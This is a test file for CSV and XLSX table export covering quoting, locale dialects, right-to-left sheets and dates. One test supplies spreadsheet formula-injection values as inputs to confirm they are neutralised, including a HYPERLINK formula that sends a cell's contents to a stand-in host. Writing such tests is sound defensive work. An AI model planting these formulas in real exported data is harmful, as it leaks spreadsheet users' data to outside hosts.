// @vitest-environment node
import { describe, expect, it } from 'vitest';
import { strFromU8, unzipSync } from 'fflate';
import { tableToCsv } from './csv';
import { exportFormatsFor, extensionOf } from './index';
import { tableToXlsx } from './xlsx';
import type { ExportTable } from './table';

const table = (language: string): ExportTable => ({
  title: 'Tariff',
  language,
  columns: [{ header: 'HS code' }, { header: 'الوصف' }, { header: 'TTI', numeric: true }],
  rows: [
    ['09011110', 'কফি, ভাজা নয়', 93.16],
    ['09011190', 'Coffee, "not" roasted\nnor decaffeinated', null],
  ],
});

describe('CSV', () => {
  it('starts with a BOM, quotes what needs it, and shows - for missing values', () => {
    const csv = tableToCsv(table('bn'));
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.slice(1).split('\r\n')).toEqual([
      'HS code,الوصف,TTI',
      '09011110,"কফি, ভাজা নয়",93.16',
      '09011190,"Coffee, ""not"" roasted\nnor decaffeinated",-',
      '',
    ]);
  });
  it('writes the details before the table, then an empty line', () => {
    const csv = tableToCsv({ ...table('en'), details: [{ label: 'Currency', value: 'USD, rate 122.46' }] });
    expect(csv.slice(1).split('\r\n').slice(0, 3)).toEqual(['Currency,"USD, rate 122.46"', '', 'HS code,الوصف,TTI']);
  });
  it('writes text that a spreadsheet would run as a formula as text, numbers as they are', () => {
    const rows = [
      ['=HYPERLINK("http://x.example/?"&A1,"Click")', '+1 234', -5],
      ['@SUM(A1)', '-2+3', null],
      ['\tcmd', 'a=b', 0],
    ];
    const csv = tableToCsv({ ...table('en'), rows });
    expect(csv.slice(1).split('\r\n').slice(1, 4)).toEqual([
      `"'=HYPERLINK(""http://x.example/?""&A1,""Click"")",'+1 234,-5`,
      "'@SUM(A1),'-2+3,-",
      "'\tcmd,a=b,0",
    ]);
  });
  it('has a semicolon dialect with decimal commas, offered where the page language writes 1,5', () => {
    const csv = tableToCsv({ ...table('fr'), rows: [['0901;1', 'Café', 93.16]] }, 'semicolon');
    expect(csv.slice(1).split('\r\n')).toEqual(['HS code;الوصف;TTI', '"0901;1";Café;93,16', '']);
    expect(exportFormatsFor('fr')).toContain('csv-semicolon');
    expect(exportFormatsFor('es')).toContain('csv-semicolon');
    expect(exportFormatsFor('en')).not.toContain('csv-semicolon');
    expect(extensionOf('csv-semicolon')).toBe('csv');
  });
});

describe('XLSX', () => {
  const sheet = async (language: string) => {
    const blob = await tableToXlsx(table(language));
    const files = unzipSync(new Uint8Array(await blob.arrayBuffer()));
    return { sheet: strFromU8(files['xl/worksheets/sheet1.xml']), strings: strFromU8(files['xl/sharedStrings.xml'] ?? new Uint8Array()) };
  };
  it('is right-to-left for Arabic only', async () => {
    expect((await sheet('ar')).sheet).toMatch(/rightToLeft="1"/);
    expect((await sheet('en')).sheet).not.toMatch(/rightToLeft="1"/);
  });
  it('keeps Unicode text, numbers as numbers and - for missing values', async () => {
    const { sheet: xml, strings } = await sheet('bn');
    const text = `${xml}${strings}`;
    expect(text).toContain('কফি, ভাজা নয়');
    expect(text).toContain('الوصف');
    expect(xml).toMatch(/<c r="C2"[^>]*><v>93.16<\/v>/);
    expect(text).toContain('>-<');
  });
  it('writes the details above the table and freezes the rows down to its header', async () => {
    const blob = await tableToXlsx({ ...table('en'), details: [{ label: 'Currency', value: 'USD' }] });
    const files = unzipSync(new Uint8Array(await blob.arrayBuffer()));
    const xml = strFromU8(files['xl/worksheets/sheet1.xml']);
    const strings = strFromU8(files['xl/sharedStrings.xml'] ?? new Uint8Array());
    expect(strings).toContain('Currency');
    expect(xml).toMatch(/<pane [^>]*ySplit="3"/);
    expect(xml).toMatch(/<c r="C4"[^>]*><v>93.16<\/v>/);
  });
  it('writes date columns as dates, not text', async () => {
    const blob = await tableToXlsx({ title: 'Rates', language: 'fr', columns: [{ header: 'Date', date: true }], rows: [['2026-09-29']] });
    const files = unzipSync(new Uint8Array(await blob.arrayBuffer()));
    const xml = strFromU8(files['xl/worksheets/sheet1.xml']);
    const strings = strFromU8(files['xl/sharedStrings.xml'] ?? new Uint8Array());
    // A date is a serial number (days since 1899-12-30) with a date format, not the string.
    expect(xml).toMatch(/<c r="A2"[^>]*s="\d+"[^>]*><v>46294<\/v>/);
    expect(strings).not.toContain('2026-09-29');
  });
});
